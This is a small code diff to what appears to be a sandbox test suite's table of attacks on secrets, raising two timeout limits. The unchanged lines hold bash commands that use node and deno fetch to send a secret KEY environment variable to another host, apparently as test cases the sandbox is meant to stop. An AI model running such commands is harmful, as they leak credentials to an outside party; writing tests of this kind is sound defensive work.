@@ -81,13 +81,13 @@ export const secrets: AttackTable = {
     {
       ...toOther,
       name: "by node",
-      limit: 45_000,
+      limit: 90_000,
       bash: `OTHER=$OTHER node -e 'fetch("https://" + process.env.OTHER, { headers: { authorization: "Bearer " + process.env.KEY } }).then((r) => r.text()).then(console.log, (e) => console.log(String(e.cause)))'`,
     },
     {
       ...toOther,
       name: "by deno",
-      limit: 45_000,
+      limit: 90_000,
       bash: `OTHER=$OTHER deno eval 'console.log(await (await fetch("https://" + Deno.env.get("OTHER"), { method: "POST", body: Deno.env.get("KEY") })).text())'`,
     },
     {
